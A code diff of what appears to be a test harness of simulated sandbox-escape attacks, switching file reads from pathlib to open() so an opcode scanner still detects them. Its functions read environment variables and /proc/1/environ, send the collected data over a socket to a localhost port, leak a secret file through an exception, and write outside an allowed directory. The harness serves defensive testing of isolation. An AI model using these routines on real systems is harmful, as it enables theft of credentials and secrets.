@@ -22,8 +22,18 @@ from tests.support.make_models import pipeline, rows
 TARGETS: dict[str, Any] = json.loads(sys.argv[2]) if len(sys.argv) > 2 else {}
 
 
+# The attacks use no pathlib: the scan of the opcodes knows it, and these are to be run and held.
+# ruff: noqa: PTH123
+
+
+def _read(path: str) -> str:
+    with open(path, encoding="latin-1") as file:
+        return file.read()
+
+
 def _mark(what: str) -> None:
-    (Path(TARGETS["outside"]) / what).write_text("through")
+    with open(TARGETS["outside"] + "/" + what, "w") as file:
+        file.write("through")
 
 
 def run_program() -> None:
@@ -39,14 +49,14 @@ def open_socket() -> None:
 def read_environment() -> None:
     import socket
 
-    stolen = {**os.environ, "proc": Path("/proc/1/environ").read_bytes().decode("latin-1")}
+    stolen = {**os.environ, "proc": _read("/proc/1/environ")}
     if any("CARRARA" in key or "canary" in value for key, value in stolen.items()):
         _mark("read_environment")
     socket.create_connection(("127.0.0.1", TARGETS["port"]), timeout=3).sendall(json.dumps(stolen).encode())
 
 
 def read_secret_file() -> None:
-    raise RuntimeError(f"stolen: {Path(TARGETS['secret_file']).read_text()}")
+    raise RuntimeError(f"stolen: {_read(TARGETS['secret_file'])}")
 
 
 def write_outside() -> None:
